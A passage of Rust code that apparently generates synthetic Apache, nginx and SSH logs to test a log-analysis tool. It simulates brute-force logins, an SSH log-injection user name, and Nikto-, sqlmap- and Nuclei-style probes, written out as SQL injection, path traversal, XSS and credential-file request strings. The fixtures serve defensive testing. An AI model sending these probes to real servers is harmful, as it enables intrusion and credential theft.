            let mut t = start() + rng.range(0, every_hours * HOUR);
            let mut last_seen_day = -1;
            while t < day(DAYS) {
                let d = (t - start()).div_euclid(DAY);
                // The feed changes when a post is published (days 5 and 6).
                let changed = [5, 6].iter().any(|&p| p <= d && p > last_seen_day);
                if changed || last_seen_day < 0 {
                    w.access(t, Hit::new(ip, "GET /feed.xml HTTP/1.1", 200, 48213, ua));
                } else {
                    let bytes = not_modified_bytes(&mut rng);
                    w.access(t, Hit::new(ip, "GET /feed.xml HTTP/1.1", 304, bytes, ua));
                }
                last_seen_day = d;
                t += every_hours * HOUR + rng.range(-5 * MIN, 5 * MIN);
            }
        }
    }

    fn lets_encrypt_renewal(w: &mut World) {
        let mut rng = Rng::named("lets encrypt");
        let ua = "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)";
        let token = "/.well-known/acme-challenge/Zk3uH1v9aQ7pL0sXn2cR8tYwE4bM6dJ5gF_oKiVh-Ns";
        let mut t = at(8, 0, 31, 7) + micros(&mut rng);
        for ip in LETS_ENCRYPT {
            t += rng.range(50_000, 900_000);
            w.access(t, Hit::new(ip, &get(token), 200, 87 + 230, ua));
        }
    }

    /// A crawler that writes raw Latin-1 in its User-Agent. Real Apache escapes such
    /// bytes; this line is here to prove non-UTF-8 input is survived, not rejected.
    fn odd_crawler(w: &mut World) {
        let ua: &[u8] = b"Mozilla/5.0 (compatible; Caf\xe9Crawler/0.9; +http://caf\xe9.example/bot; \xff\xfe)";
        let t = at(8, 14, 2, 51) + 311_907;
        for (offset, request, bytes) in [(0, "GET /robots.txt HTTP/1.1", 412), (2, "GET / HTTP/1.1", 9737)] {
            let mut hit = Hit::new(ODD_CRAWLER, request, 200, bytes, "");
            hit.user_agent = ua;
            w.access(t + offset * SEC, hit);
        }
    }

    // ----------------------------------------------------------------------------------
    // The owner: alice on the LAN, on the phone carrier's CGNAT, and from a hotel.
    // ----------------------------------------------------------------------------------

    /// A /private/ session with basic auth. The browser's first request carries no
    /// credentials (401 "-"); `typo` adds one wrong password before the right one.
    #[allow(clippy::too_many_arguments)]
    fn private_session(
        w: &mut World,
        rng: &mut Rng,
        ip: &str,
        ua: &str,
        t0: i64,
        ask_first: bool,
        typo: bool,
        pages: usize,
    ) -> i64 {
        let mut t = t0;
        if ask_first {
            w.access(t, Hit::new(ip, "GET /private/ HTTP/1.1", 401, 712, ua));
            t += rng.range(3 * SEC, 9 * SEC);
        }
        if typo {
            w.access(t, Hit::new(ip, "GET /private/ HTTP/1.1", 401, 712, ua).user("alice"));
            let port = rng.port();
            w.apache_error(
                t + rng.range(200, 900),
                "auth_basic:error",
                Some((ip, port)),
                "AH01617: user alice: authentication failure for \"/private/\": Password Mismatch",
            );
            t += rng.range(4 * SEC, 12 * SEC);
        }
        let mut previous = page_url("/private/");
        for n in 0..pages {
            let (path, bytes) = if n == 0 { PRIVATE_PAGES[0] } else { *rng.pick(&PRIVATE_PAGES) };
            let request = get(path);
            let referer = if n == 0 { "-".to_string() } else { previous.clone() };
            w.access(t, Hit::new(ip, &request, 200, bytes + 280, ua).user("alice").referer(&referer));
            previous = page_url(path);
            t += rng.range(5 * SEC, 3 * MIN);
        }
        t
    }

    fn owner_web(w: &mut World) {
        let mut rng = Rng::named("owner web");
        for d in (0..DAYS).filter(|d| ![8, 9].contains(d)) {
            let t = at(d, rng.range(19, 22), rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
            let ask = d == 0 || rng.chance(0.4);
            let pages = rng.range(2, 7) as usize;
            let end = private_session(w, &mut rng, OWNER_DESKTOP, OWNER_DESKTOP_UA, t, ask, false, pages);
            browse(w, &mut rng, OWNER_DESKTOP, OWNER_DESKTOP_UA, end + MIN, false, 1);
        }
        for d in [1, 4, 7, 11] {
            let t = at(d, 20, 14, 3) + micros(&mut rng);
            // Day 7: alice mistypes her password once on the laptop. Must not flag.
            let typo = d == 7;
            let pages = rng.range(2, 5) as usize;
            private_session(w, &mut rng, OWNER_LAPTOP, OWNER_LAPTOP_UA, t, true, typo, pages);
        }
        for (ip, d) in OWNER_PHONES {
            let t = at(d, rng.range(8, 18), rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
            let pages = rng.range(2, 4) as usize;
            private_session(w, &mut rng, ip, OWNER_PHONE_UA, t, true, false, pages);
        }
        // Day 8, evening: alice in a hotel, on its Wi-Fi. One Password Mismatch, then in.
        let t = at(8, 21, 40, 12) + 118_442;
        private_session(w, &mut rng, HOTEL, OWNER_PHONE_UA, t, true, true, 4);
    }

    /// Owner's ssh sessions, sudo, and the machine's own cron: the benign bulk of auth.log.
    fn owner_ssh_and_system(w: &mut World) {
        let mut rng = Rng::named("owner ssh");
        let mut session_id = 41;
        let logins: [(&str, i64, i64, i64); 6] = [
            (OWNER_DESKTOP, 0, 18, 2),
            (OWNER_DESKTOP, 3, 21, 47),
            (OWNER_DESKTOP, 6, 10, 15),
            ("100.72.133.9", 9, 12, 31),
            (OWNER_DESKTOP, 10, 19, 5),
            (OWNER_DESKTOP, 13, 22, 40),
        ];
        for (n, (ip, d, hour, minute)) in logins.into_iter().enumerate() {
            let t = at(d, hour, minute, rng.range(0, 60)) + micros(&mut rng);
            let pid = w.pid(t);
            let port = if n == 0 { 50022 } else { rng.port() };
            session_id += 1;
            let key = "ED25519 SHA256:q3Xv0mK1b9TzR4cWl8nYp2aHs6fJd7gUe5oLi0kBtNw";
            w.auth(
                t,
                "sshd",
                pid,
                &format!("Accepted publickey for alice from {ip} port {port} ssh2: {key}"),
                Some(ip),
            );
            w.auth(
                t + 9_000,
                "sshd",
                pid,
                "pam_unix(sshd:session): session opened for user alice(uid=1000) by alice(uid=0)",
                None,
            );
            w.auth(t + 21_000, "systemd-logind", 598, &format!("New session {session_id} of user alice."), None);
            let mut t_end = t + rng.range(5 * MIN, 70 * MIN);
            if n % 2 == 0 {
                let sudo_t = t + rng.range(MIN, 4 * MIN);
                let sudo_pid = w.pid(sudo_t);
                let command = *rng.pick(&[
                    "/usr/bin/apt update",
                    "/usr/bin/apt upgrade",
                    "/usr/bin/systemctl reload apache2",
                    "/usr/bin/journalctl -u ssh",
                ]);
                w.auth(
                    sudo_t,
                    "sudo",
                    sudo_pid,
                    &format!("   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND={command}"),
                    None,
                );
                w.auth(
                    sudo_t + 3_000,
                    "sudo",
                    sudo_pid,
                    "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)",
                    None,
                );
                w.auth(
                    sudo_t + rng.range(SEC, 40 * SEC),
                    "sudo",
                    sudo_pid,
                    "pam_unix(sudo:session): session closed for user root",
                    None,
                );
                t_end = t_end.max(sudo_t + MIN);
            }
            w.auth(
                t_end,
                "sshd",
                pid,
                &format!("Received disconnect from {ip} port {port}:11: disconnected by user"),
                Some(ip),
            );
            w.auth(t_end + 400, "sshd", pid, &format!("Disconnected from user alice {ip} port {port}"), Some(ip));
            w.auth(t_end + 2_000, "sshd", pid, "pam_unix(sshd:session): session closed for user alice", None);
            w.auth(
                t_end + 9_000,
                "systemd-logind",
                598,
                &format!("Session {session_id} logged out. Waiting for processes to exit."),
                None,
            );
            w.auth(t_end + 30_000, "systemd-logind", 598, &format!("Removed session {session_id}."), None);
        }
        // cron.hourly at :17 every hour, cron.daily at 06:25: the steady drip of auth.log.
        for hour in 0..DAYS * 24 {
            let mut jobs = vec![day(0) + hour * HOUR + 17 * MIN + SEC];
            if hour % 24 == 6 {
                jobs.push(day(0) + hour * HOUR + 25 * MIN + SEC);
            }
            for t in jobs {
                let t = t + rng.range(0, 400_000);
                let pid = w.pid(t);
                w.auth(
                    t,
                    "CRON",
                    pid,
                    "pam_unix(cron:session): session opened for user root(uid=0) by root(uid=0)",
                    None,
                );
                w.auth(
                    t + rng.range(20_000, 900_000),
                    "CRON",
                    pid,
                    "pam_unix(cron:session): session closed for user root",
                    None,
                );
            }
        }
    }

    // ----------------------------------------------------------------------------------
    // HTTP basic-auth attackers.
    // ----------------------------------------------------------------------------------
    const GUESSED_USERS: [&str; 24] = [
        "admin",
        "root",
        "test",
        "guest",
        "user",
        "administrator",
        "webmaster",
        "support",
        "info",
        "oracle",
        "ftp",
        "pi",
        "ubuntu",
        "postgres",
        "mysql",
        "backup",
        "demo",
        "operator",
        "manager",
        "www-data",
        "tomcat",
        "git",
        "jenkins",
        "nagios",
    ];

    fn basic_auth_user_guesser(w: &mut World) {
        let mut rng = Rng::named("basic auth user guesser");
        let ip = AUTH_USER_GUESSER;
        let mut t = at(11, 2, 20, 5) + micros(&mut rng);
        w.access(t, Hit::new(ip, "GET /private/ HTTP/1.1", 401, 712, HYDRA));
        // ~20 minutes of guesses, several passwords per user name.
        let end = at(11, 2, 41, 0);
        let mut n = 0;
        while t < end {
            t += rng.range(6 * SEC, 16 * SEC);
            let user = GUESSED_USERS[n % GUESSED_USERS.len()];
            n += 1;
            guess_user(w, &mut rng, ip, t, user, None);
        }
        // The line the README quotes, at a fixed instant.
        guess_user(w, &mut rng, ip, at(11, 2, 32, 23) + 803_330, "admin", Some(51234));
        // Then it tries the same on nginx's protected /admin/.
        let mut t = at(11, 2, 45, 11) + micros(&mut rng);
        for user in ["admin", "admin", "root", "test", "administrator", "git"] {
            t += rng.range(4 * SEC, 10 * SEC);
            w.nginx_access(t, Hit::new(ip, "GET /admin/ HTTP/1.1", 401, 179, HYDRA).user(user));
            w.nginx_error(
                t + 500,
                "error",
                &format!("user \"{user}\" was not found in \"/etc/nginx/htpasswd\""),
                Some((ip, "GET /admin/ HTTP/1.1")),
            );
        }
    }

    fn guess_user(w: &mut World, rng: &mut Rng, ip: &str, t: i64, user: &str, port: Option<u16>) {
        w.access(t, Hit::new(ip, "GET /private/ HTTP/1.1", 401, 712, HYDRA).user(user));
        let fixed_port = port;
        let port = port.unwrap_or_else(|| rng.port());
        let message = format!("AH01618: user {user} not found: /private/");
        // The quoted README line keeps its exact instant; others trail the request.
        let error_t = if fixed_port.is_some() { t } else { t + rng.range(300, 2_000) };
        w.apache_error(error_t, "auth_basic:error", Some((ip, port)), &message);
    }

    fn alice_password_guesser(w: &mut World) {
        let mut rng = Rng::named("alice password guesser");
        let ip = ALICE_PASSWORD_GUESSER;
        // Reconnaissance: the About page names alice.
        let mut t = at(4, 3, 4, 40) + micros(&mut rng);
        w.access(t, Hit::new(ip, "GET /about/ HTTP/1.1", 200, 6491, CURL));
        t = at(4, 3, 10, 2) + micros(&mut rng);
        w.access(t, Hit::new(ip, "GET /private/ HTTP/1.1", 401, 712, HYDRA));
        for _ in 0..60 {
            t += rng.range(15 * SEC, 45 * SEC);
            w.access(t, Hit::new(ip, "GET /private/ HTTP/1.1", 401, 712, HYDRA).user("alice"));
            let port = rng.port();
            w.apache_error(
                t + rng.range(300, 2_000),
                "auth_basic:error",
                Some((ip, port)),
                "AH01617: user alice: authentication failure for \"/private/\": Password Mismatch",
            );
        }
        // Then the same guesses over ssh, against the real account.
        t += 5 * MIN;
        for _ in 0..3 {
            t += rng.range(20 * SEC, 90 * SEC);
            let port = rng.port();
            let pid = w.pid(t);
            let rhost = format!("rhost={ip}  user=alice");
            w.auth(
                t,
                "sshd",
                pid,
                &format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= {rhost}"),
                Some(ip),
            );
            let tries = 2;
            for k in 0..tries {
                w.auth(
                    t + 2 * SEC * (k + 1),
                    "sshd",
                    pid,
                    &format!("Failed password for alice from {ip} port {port} ssh2"),
                    Some(ip),
                );
            }
            w.auth(
                t + 7 * SEC,
                "sshd",
                pid,
                &format!("Connection closed by authenticating user alice {ip} port {port} [preauth]"),
                Some(ip),
            );
            w.auth(
                t + 7 * SEC + 100,
                "sshd",
                pid,
                &format!("PAM 1 more authentication failure; logname= uid=0 euid=0 tty=ssh ruser= {rhost}"),
                Some(ip),
            );
        }
    }

    // ----------------------------------------------------------------------------------
    // sshd attackers.
    // ----------------------------------------------------------------------------------
    const SSH_USERS: [&str; 20] = [
        "admin",
        "ubuntu",
        "test",
        "user",
        "oracle",
        "postgres",
        "git",
        "deploy",
        "pi",
        "hadoop",
        "ftpuser",
        "support",
        "guest",
        "minecraft",
        "steam",
        "sol",
        "solana",
        "validator",
        "debian",
        "centos",
    ];

    /// One ssh connection that fails to log in: `tries` passwords for `user` (root is a
    /// real account, the others are not), closed by the client before auth completes.
    #[allow(clippy::too_many_arguments)]
    fn ssh_failed_connection(
        w: &mut World,
        rng: &mut Rng,
        ip: &str,
        t: i64,
        user: &str,
        tries: u32,
        port: Option<u16>,
        first_fail_at: Option<i64>,
    ) -> i64 {
        let pid = w.pid(t);
        let port = port.unwrap_or_else(|| rng.port());
        let valid = user == "root" || user == "alice";
        let mut t = t;
        if !valid {
            w.auth(t, "sshd", pid, &format!("Invalid user {user} from {ip} port {port}"), Some(ip));
            t += rng.range(100_000, 2 * SEC);
            w.auth(t, "sshd", pid, "pam_unix(sshd:auth): check pass; user unknown", None);
        }
        let rhost = if valid { format!("rhost={ip}  user={user}") } else { format!("rhost={ip}") };
        t += rng.range(1_000, 5_000);
        w.auth(
            t,
            "sshd",
            pid,
            &format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= {rhost}"),
            Some(ip),
        );
        let who = if valid { user.to_string() } else { format!("invalid user {user}") };
        for k in 0..tries {
            t = match (k, first_fail_at) {
                (0, Some(fixed)) => fixed,
                _ => t + rng.range(SEC, 3 * SEC),
            };
            w.auth(t, "sshd", pid, &format!("Failed password for {who} from {ip} port {port} ssh2"), Some(ip));
        }
        t += rng.range(100_000, SEC);
        let closer = if valid { format!("authenticating user {user}") } else { format!("invalid user {user}") };
        if tries >= 6 {
            w.auth(
                t,
                "sshd",
                pid,
                &format!(
                    "error: maximum authentication attempts exceeded for {who} from {ip} port {port} ssh2 [preauth]"
                ),
                Some(ip),
            );
            w.auth(
                t + 300,
                "sshd",
                pid,
                &format!("Disconnecting {closer} {ip} port {port}: Too many authentication failures [preauth]"),
                Some(ip),
            );
        } else if rng.chance(0.5) {
            w.auth(t, "sshd", pid, &format!("Connection closed by {closer} {ip} port {port} [preauth]"), Some(ip));
        } else {
            w.auth(
                t,
                "sshd",
                pid,
                &format!("Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"),
                Some(ip),
            );
            w.auth(t + 200, "sshd", pid, &format!("Disconnected from {closer} {ip} port {port} [preauth]"), Some(ip));
        }
        if tries > 1 {
            let s = if tries == 2 { "" } else { "s" };
            w.auth(
                t + 600,
                "sshd",
                pid,
                &format!(
                    "PAM {} more authentication failure{s}; logname= uid=0 euid=0 tty=ssh ruser= {rhost}",
                    tries - 1
                ),
                None,
            );
        }
        t
    }

    fn ssh_bruteforcer(w: &mut World) {
        let mut rng = Rng::named("ssh bruteforcer");
        let ip = SSH_BRUTEFORCER;
        // The first failure is the README's quoted line.
        let first = at(11, 0, 2, 28) + 123_456;
        let mut t = ssh_failed_connection(w, &mut rng, ip, first - 2 * SEC, "root", 3, Some(52344), Some(first));
        let end = at(11, 1, 5, 0);
        let mut n = 0;
        while t < end {
            t += rng.range(40 * SEC, 150 * SEC);
            let user = if n % 3 == 0 { "root" } else { SSH_USERS[n % SSH_USERS.len()] };
            let tries = if n % 7 == 3 { 6 } else { 1 + rng.below(3) as u32 };
            t = ssh_failed_connection(w, &mut rng, ip, t, user, tries, None, None);
            n += 1;
        }
    }

    fn ssh_botnet(w: &mut World) {
        let mut rng = Rng::named("ssh botnet");
        for (i, ip) in SSH_BOTNET.iter().enumerate() {
            let mut days: BTreeSet<i64> = BTreeSet::new();
            let wanted = 1 + rng.below(3) as usize;
            while days.len() < wanted {
                days.insert(rng.range(0, DAYS));
            }
            for d in days {
                let mut t = at(d, rng.range(0, 24), rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
                for k in 0..rng.range(1, 3) {
                    let user = if (i + k as usize).is_multiple_of(4) { "root" } else { *rng.pick(&SSH_USERS) };
                    t = ssh_failed_connection(w, &mut rng, ip, t, user, 1, None, None);
                    t += rng.range(20 * SEC, 5 * MIN);
                }
            }
        }
    }

    fn ssh_ipv6_attacker(w: &mut World) {
        let mut rng = Rng::named("ssh ipv6");
        let mut t = at(9, 13, 0, 41) + micros(&mut rng);
        for n in 0..12 {
            let user = ["admin", "root", "ubuntu", "test"][n % 4];
            t = ssh_failed_connection(w, &mut rng, SSH_IPV6, t, user, 1 + (n % 2) as u32, None, None);
            t += rng.range(60 * SEC, 4 * MIN);
        }
    }

    /// A user name crafted so the line seems to blame 8.8.8.8: the real peer is the last
    /// `from IP port N`. Parsers that take the first IP-looking text get this wrong.
    fn ssh_log_injection(w: &mut World) {
        let mut rng = Rng::named("ssh log injection");
        let ip = LOG_INJECTOR;
        let t = at(10, 4, 11, 19) + micros(&mut rng);
        let pid = w.pid(t);
        let user = "x from 8.8.8.8 port 22";
        w.auth(t, "sshd", pid, &format!("Invalid user {user} from {ip} port 4242"), Some(ip));
        w.auth(t + 800_000, "sshd", pid, "pam_unix(sshd:auth): check pass; user unknown", None);
        w.auth(
            t + 803_000,
            "sshd",
            pid,
            &format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}"),
            Some(ip),
        );
        w.auth(
            t + 2_400_000,
            "sshd",
            pid,
            &format!("Failed password for invalid user {user} from {ip} port 4242 ssh2"),
            Some(ip),
        );
        w.auth(
            t + 2_900_000,
            "sshd",
            pid,
            &format!("Connection closed by invalid user {user} {ip} port 4242 [preauth]"),
            Some(ip),
        );
        ssh_failed_connection(w, &mut rng, ip, t + 40 * SEC, "admin", 2, Some(4243), None);
    }

    /// Scanners that never try a password: banner grabbers, old clients, TLS probes.
    fn ssh_noise(w: &mut World) {
        let mut rng = Rng::named("ssh noise");
        for d in [1, 5, 9, 13] {
            let t = random_time(&mut rng, d, 0..24);
            let pid = w.pid(t);
            let port = rng.port();
            w.auth(
                t,
                "sshd",
                pid,
                &format!("Did not receive identification string from {NO_IDENT_SCANNER} port {port}"),
                Some(NO_IDENT_SCANNER),
            );
        }
        for (n, d) in [2, 3, 7, 10].into_iter().enumerate() {
            let t = random_time(&mut rng, d, 0..24);
            let pid = w.pid(t);
            let port = rng.port();
            if n % 2 == 0 {
                w.auth(t, "sshd", pid, "error: kex_exchange_identification: Connection closed by remote host", None);
                w.auth(
                    t + 150,
                    "sshd",
                    pid,
                    &format!("Connection closed by {KEX_PROBER} port {port}"),
                    Some(KEX_PROBER),
                );
            } else {
                w.auth(t, "sshd", pid, "error: kex_exchange_identification: read: Connection reset by peer", None);
                w.auth(
                    t + 150,
                    "sshd",
                    pid,
                    &format!("Connection reset by {KEX_PROBER} port {port}"),
                    Some(KEX_PROBER),
                );
            }
        }
        for d in [4, 8] {
            let t = random_time(&mut rng, d, 0..24);
            let pid = w.pid(t);
            let port = rng.port();
            w.auth(
                t,
                "sshd",
                pid,
                &format!("Unable to negotiate with {OLD_KEX_SCANNER} port {port}: no matching key exchange method found. Their offer: diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1 [preauth]"),
                Some(OLD_KEX_SCANNER),
            );
        }
        // zgrab speaks HTTP to port 22 on the days it also scans the web server.
        for d in [3, 9, 12] {
            let t = at(d, 7, 12, 40) + 2 * MIN + micros(&mut rng);
            let pid = w.pid(t);
            let port = rng.port();
            w.auth(
                t,
                "sshd",
                pid,
                &format!("Bad protocol version identification 'GET / HTTP/1.1' from {ZGRAB} port {port}"),
                Some(ZGRAB),
            );
        }
    }

    /// Power cut on day 2 evening: auth.log gets a run of NUL bytes (the page that was
    /// allocated but never written), then the boot.
    fn power_cut() -> i64 {
        at(2, 23, 12, 40)
    }
    fn power_back() -> i64 {
        at(2, 23, 31, 5)
    }

    fn reboot_after_power_cut(w: &mut World) {
        w.raw(LogId::Auth, power_cut(), vec![0u8; 73], None);
        let t = power_back() + 118_733;
        w.auth(t, "systemd-logind", 598, "New seat seat0.", None);
        w.auth(t + 1_200, "systemd-logind", 598, "Watching system buttons on /dev/input/event0 (Power Button)", None);
        w.auth(t + 2_100_000, "sshd", 640, "Server listening on 0.0.0.0 port 22.", None);
        w.auth(t + 2_100_400, "sshd", 640, "Server listening on :: port 22.", None);
        w.apache_notice(
            t + 4_000_000,
            "mpm_event",
            "AH00489: Apache/2.4.65 (Debian) configured -- resuming normal operations",
        );
        w.apache_notice(t + 4_000_300, "core", "AH00094: Command line: '/usr/sbin/apache2'");
    }

    fn apache_rotations(w: &mut World) {
        for cut in access_cuts() {
            let t = cut + 1_213_877;
            w.apache_notice(t, "mpm_event", "AH00493: SIGUSR1 received.  Doing graceful restart");
            w.apache_notice(
                t + 40_000,
                "mpm_event",
                "AH00489: Apache/2.4.65 (Debian) configured -- resuming normal operations",
            );
            w.apache_notice(t + 40_300, "core", "AH00094: Command line: '/usr/sbin/apache2'");
        }
    }

    // ----------------------------------------------------------------------------------
    // Web scanners and exploit bots.
    // ----------------------------------------------------------------------------------

    /// What Debian's Apache (static site, ScriptAlias /cgi-bin/, `.ht*` denied, no proxy,
    /// no WebDAV, TraceEnable Off) answers to a probe: status, bytes sent, and the
    /// error-log line (module:level, message) it writes at the default LogLevel, if any.
    fn apache_response(method: &str, path: &str) -> (u16, u64, Option<(&'static str, String)>) {
        if ["CONNECT", "TRACE", "PROPFIND"].contains(&method) {
            return (405, 529, None);
        }
        if path.starts_with("/cgi-bin/.%2e") || path.starts_with("/icons/.%2e") {
            let message = format!("AH10244: invalid URI path ({path})");
            return (400, 483, Some(("core:error", message)));
        }
        if path.starts_with("/../") {
            let message = format!("AH00126: Invalid URI in request {method} {path} HTTP/1.1");
            return (400, 483, Some(("core:error", message)));
        }
        if let Some(script) = path.strip_prefix("/cgi-bin/") {
            let script = script.split(['/', '?', ';']).next().unwrap_or("");
            let message = format!("AH02811: script not found or unable to stat: /usr/lib/cgi-bin/{script}");
            return (404, 492, Some(("cgi:error", message)));
        }
        if path.starts_with("/.ht") {
            let file = path.split('?').next().unwrap_or(path);
            let message = format!("AH01630: client denied by server configuration: /var/www/html{file}");
            return (403, 475, Some(("authz_core:error", message)));
        }
        match path {
            "/robots.txt" => (200, 412, None),
            "/icons/README" => (200, 5366, None),
            _ if path == "/" || path.starts_with("/?") => (200, 9737, None),
            _ if path.starts_with("/server-status") || path.starts_with("/server-info") => (403, 475, None),
            _ => (404, 492, None),
        }
    }

    /// A 404/403/400 probe plus the error-log line Apache writes for it, if any.
    #[allow(clippy::too_many_arguments)]
    fn probe(w: &mut World, rng: &mut Rng, ip: &str, t: i64, method: &str, path: &str, ua: &str, referer: &str) {
        let (status, bytes, error) = apache_response(method, path);
        let request = format!("{method} {path} HTTP/1.1");
        w.access(t, Hit::new(ip, &request, status, bytes, ua).referer(referer));
        if let Some((module, message)) = error {
            let port = rng.port();
            let suffix = if referer == "-" { String::new() } else { format!(", referer: {referer}") };
            w.apache_error(t + rng.range(200, 3_000), module, Some((ip, port)), &format!("{message}{suffix}"));
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn probe_burst(w: &mut World, rng: &mut Rng, ip: &str, t0: i64, paths: &[&str], ua: &str, gap: (i64, i64)) -> i64 {
        let mut t = t0;
        for path in paths {
            let (method, path) = match path.split_once(' ') {
                Some((method, path)) if method.chars().all(|c| c.is_ascii_uppercase()) => (method, path),
                _ => ("GET", *path),
            };
            probe(w, rng, ip, t, method, path, ua, "-");
            t += rng.range(gap.0, gap.1);
        }
        t
    }

    fn nikto(w: &mut World) {
        let mut rng = Rng::named("nikto");
        let paths = [
            "/",
            "/robots.txt",
            "OPTIONS /",
            "TRACE /",
            "PROPFIND /",
            "/cgi-bin/test-cgi",
            "/cgi-bin/printenv",
            "/cgi-bin/php",
            "/cgi-bin/php5",
            "/cgi-bin/awstats.pl",
            "/admin/",
            "/administrator/",
            "/phpmyadmin/",
            "/phpMyAdmin/",
            "/.git/config",
            "/.git/HEAD",
            "/.svn/entries",
            "/.htaccess",
            "/.htpasswd",
            "/server-status",
            "/server-info",
            "/backup/",
            "/backup.zip",
            "/db.sql",
            "/dump.sql",
            "/config.php",
            "/config.inc.php",
            "/wp-config.php",
            "/info.php",
            "/phpinfo.php",
            "/test.php",
            "/login.php",
            "/admin.php",
            "/install.php",
            "/setup.php",
            "/web.config",
            "/WEB-INF/web.xml",
            "/manager/html",
            "/jmx-console/",
            "/console/",
            "/examples/servlets/index.html",
            "/icons/README",
            "/manual/",
            "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
            "/_vti_bin/_vti_aut/author.dll",
            "/iisadmin/",
            "/msadc/msadcs.dll",
            "/awstats/awstats.pl?config=nikto",
            "/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000",
            "/?=PHPE9568F36-D428-11d2-A769-00AA001ACF42",
            "/cgi-mod/webctl.cgi",
            "/..%2f..%2f..%2fetc/passwd",
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
            "/index.php?page=../../../../../../etc/passwd",
            "/main.php?logout=\\\"><script>alert(1)</script>",
            "/sitemap.xml",
            "/crossdomain.xml",
            "/clientaccesspolicy.xml",
            "/.DS_Store",
            "/.bash_history",
            "/id_rsa",
            "/id_dsa",
            "/.ssh/id_rsa",
        ];
        let mut t = at(3, 14, 5, 31) + micros(&mut rng);
        let mut test_id = 1;
        for round in 0..2 {
            for path in paths.iter().skip(round * 20) {
                let ua = format!("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test_id:06})");
                test_id += rng.range(1, 40);
                t = probe_burst(w, &mut rng, NIKTO, t, &[path], &ua, (300_000, 3 * SEC));
            }
        }
    }

    fn sqlmap(w: &mut World) {
        let mut rng = Rng::named("sqlmap");
        let ua = "sqlmap/1.9.11#stable (https://sqlmap.org)";
        let payloads = [
            "1",
            "1%27%20OR%201=1--",
            "1%29%20AND%201234%3D1234%20AND%20%289876%3D9876",
            "1%27%20AND%20SLEEP%285%29--%20abcd",
            "1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
            "-1234%27%20OR%206789%3D6789%23",
            "1%22%20AND%203421%3DCAST%28%28CHR%28113%29%29%20AS%20NUMERIC%29--",
            "1%3BSELECT%20PG_SLEEP%285%29--",
            "1%27%29%20WAITFOR%20DELAY%20%270%3A0%3A5%27--",
            "1%20AND%20EXTRACTVALUE%281234%2CCONCAT%280x5c%2C0x71%29%29",
            "1%27%20ORDER%20BY%201--%20-",
            "1%27%20ORDER%20BY%2010--%20-",
            "%28SELECT%20%28CASE%20WHEN%20%281%3D1%29%20THEN%201%20ELSE%200%20END%29%29",
        ];
        let mut t = at(5, 16, 20, 44) + micros(&mut rng);
        for target in ["/?id=", "/blog/?p=", "/search?q="] {
            for payload in payloads {
                let path = format!("{target}{payload}");
                probe(w, &mut rng, SQLMAP, t, "GET", &path, ua, "-");
                t += rng.range(200_000, 2 * SEC);
            }
        }
        // Two hours later, by hand, a guess at a leaked backup and the API.
        t += 2 * HOUR;
        probe_burst(
            w,
            &mut rng,
            SQLMAP,
            t,
            &["/api/v2/.creds_backup.json", "/api/v2/users?id=1%27", "/api/v2/.creds_backup.json"],
            CURL,
            (5 * SEC, 40 * SEC),
        );
    }

    fn nuclei(w: &mut World) {
        let mut rng = Rng::named("nuclei");
        let ua = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)";
        let paths = [
            "/",
            "/.git/config",
            "/.env",
            "/.env.production",
            "/actuator/env",
            "/actuator/health",
            "/server-status",
            "/wp-config.php.bak",
            "/.DS_Store",
            "/config.json",
            "/owa/auth/logon.aspx",
            "/owa2/ecp/Current/exporttool.aspx",
            "/api/v2/.creds_backup.json",
            "/telescope/requests",
            "/_profiler/phpinfo",
            "/debug/default/view",
            "/solr/admin/cores?wt=json",
            "/jenkins/login",
            "/manager/html",
            "/geoserver/web/",
            "/cgi-bin/luci",
            "/.aws/credentials",
            "/api/swagger.json",
            "/v2/api-docs",
            "/HNAP1/",
            "/login.action",
            "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
            "/vpn/../vpns/cfg/smb.conf",
            "/+CSCOE+/logon.html",
            "/global-protect/login.esp",
            "/dana-na/auth/url_default/welcome.cgi",
            "/mgmt/tm/util/bash",
            "/api/v1/namespaces",
            "/containers/json",
            "/.vscode/sftp.json",
            "/phpinfo.php",
            "/storage/logs/laravel.log",
            "/.well-known/security.txt",
            "/owa2/ecp/Current/exporttool.aspx",
        ];
        let t = at(9, 11, 0, 3) + micros(&mut rng);
        probe_burst(w, &mut rng, NUCLEI, t, &paths, ua, (150_000, 4 * SEC));
    }

    fn ipv6_web_scanner(w: &mut World) {
        let mut rng = Rng::named("ipv6 web scanner");
        let paths = [
            "/",
            "/.env",
            "/.git/config",
            "/wp-login.php",
            "/owa2/ecp/Current/exporttool.aspx",
            "/phpmyadmin/index.php",
            "/cgi-bin/luci",
            "/.aws/credentials",
            "/config.php.bak",
            "/admin/",
            "/.env.bak",
            "/backup.sql",
            "/owa2/ecp/Current/exporttool.aspx",
        ];
        let t = at(12, 9, 30, 12) + micros(&mut rng);
        let t = probe_burst(w, &mut rng, WEB_IPV6, t, &paths, OLD_CHROME, (500_000, 6 * SEC));
        // And the Gitea on nginx: dotfiles are denied by a rule, the rest is Gitea's 404.
        let mut t = t + 3 * MIN;
        for path in
            ["/.env", "/.git/config", "/wp-login.php", "/owa2/ecp/Current/exporttool.aspx", "/api/v1/users/search"]
        {
            t += rng.range(SEC, 5 * SEC);
            let request = get(path);
            if path.starts_with("/.") {
                w.nginx_access(t, Hit::new(WEB_IPV6, &request, 403, 153, OLD_CHROME));
